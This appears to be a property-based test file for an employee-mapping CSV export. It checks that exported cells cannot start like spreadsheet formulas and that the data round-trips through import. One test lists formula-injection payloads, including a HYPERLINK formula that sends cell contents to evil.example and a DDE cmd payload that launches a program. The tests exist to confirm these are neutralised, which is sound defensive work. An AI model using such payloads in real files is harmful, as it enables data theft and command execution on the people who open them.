import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv, startsLikeFormula } from '../../src/admin/csv.js';
import { exportCsv, planImport } from '../../src/admin/employee-import.js';
import { employeeNoProblem, nameProblem, OPENID_PATTERN } from '../../src/admin/mapping.js';
import { decodeBytes } from '../../src/push/charset.js';

// The export (src/admin/employee-import.ts exportCsv): safe to open in a spreadsheet, and what it
// writes imports back as exactly the mappings exported.

interface Mapping {
  employeeNo: string;
  openid: string;
  name: string;
  active: boolean;
}

/** What a spreadsheet would run, and the quote that marks a cell as text. */
const FORMULA_PREFIXES = ['', '', '=', '+', '-', '@', "'", "''", "'=", "'-", '=-', '+@', '-1+1', '=HYPERLINK("http://x","y")'];
const prefixed = (text: fc.Arbitrary<string>) => fc.tuple(fc.constantFrom(...FORMULA_PREFIXES), text).map(([p, t]) => p + t);

const employeeNoArb = prefixed(fc.string({ unit: 'binary', maxLength: 20 })).filter((no) => no === no.trim() && employeeNoProblem(no) === null);
const openidArb = fc.tuple(fc.constantFrom('', '-', '--', '_'), fc.stringMatching(/^[A-Za-z0-9_-]{6,40}$/)).map(([p, o]) => p + o).filter((o) => OPENID_PATTERN.test(o));
const nameArb = prefixed(fc.oneof(fc.string({ unit: 'binary', maxLength: 60 }), fc.string({ unit: 'grapheme', maxLength: 20 }))).filter(
  (name) => name === name.trim() && nameProblem(name) === null,
);
const mappingsArb = fc.uniqueArray(
  fc.record({ employeeNo: employeeNoArb, openid: openidArb, name: nameArb, active: fc.boolean() }),
  { selector: (m) => m.employeeNo, maxLength: 25 },
);

/** As the route sends it (BOM + UTF-8) and as the import reads it back. */
function roundTrip(mappings: Mapping[], charset: string | null) {
  const bytes = Buffer.from(`\uFEFF${exportCsv(mappings)}`, 'utf8');
  return planImport(decodeBytes(bytes, charset));
}

describe('export → import', () => {
  it('gives back exactly the mappings exported, with no errors (so an import would change nothing)', () => {
    fc.assert(
      fc.property(mappingsArb, fc.constantFrom('utf-8', null), (mappings, charset) => {
        const plan = roundTrip(mappings, charset);
        expect(plan.errors).toEqual([]);
        expect(plan.inputs).toEqual(mappings);
      }),
      { numRuns: 400 },
    );
  });

  it('writes no cell that starts like a formula', () => {
    fc.assert(
      fc.property(mappingsArb, (mappings) => {
        for (const record of parseCsv(exportCsv(mappings))) for (const cell of record.fields) expect(startsLikeFormula(cell)).toBe(false);
      }),
      { numRuns: 400 },
    );
  });

  it('neutralises the usual payloads', () => {
    const hostile: Mapping[] = [
      { employeeNo: '90001', openid: 'oE2XCwInject90001', name: '=HYPERLINK("http://evil.example/?"&A1,"click")', active: true },
      { employeeNo: '90002', openid: 'oE2XCwInject90002', name: "+cmd|' /C calc'!A0", active: true },
      { employeeNo: '@SUM(1)', openid: '-E2XCwInject90003', name: '@SUM(A1:A9)', active: false },
      { employeeNo: '-90004', openid: 'oE2XCwInject90004', name: '-1+1', active: true },
      { employeeNo: '90005', openid: 'oE2XCwInject90005', name: "'=already quoted", active: true },
    ];
    const text = exportCsv(hostile);
    const cells = parseCsv(text).flatMap((r) => r.fields);
    expect(cells.filter(startsLikeFormula)).toEqual([]);
    expect(text).toContain(`90001,oE2XCwInject90001,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",true`);
    expect(text).toContain(`'@SUM(1),'-E2XCwInject90003,'@SUM(A1:A9),false`);
    expect(text).toContain(`90005,oE2XCwInject90005,''=already quoted,true`);
    expect(roundTrip(hostile, 'utf-8')).toEqual({
      inputs: hostile,
      errors: [],
      errorCount: 0,
      columns: { employee_no: 'employee_no', openid: 'openid', name: 'name', active: 'active' },
      headers: ['employee_no', 'openid', 'name', 'active'],
    });
  });
});
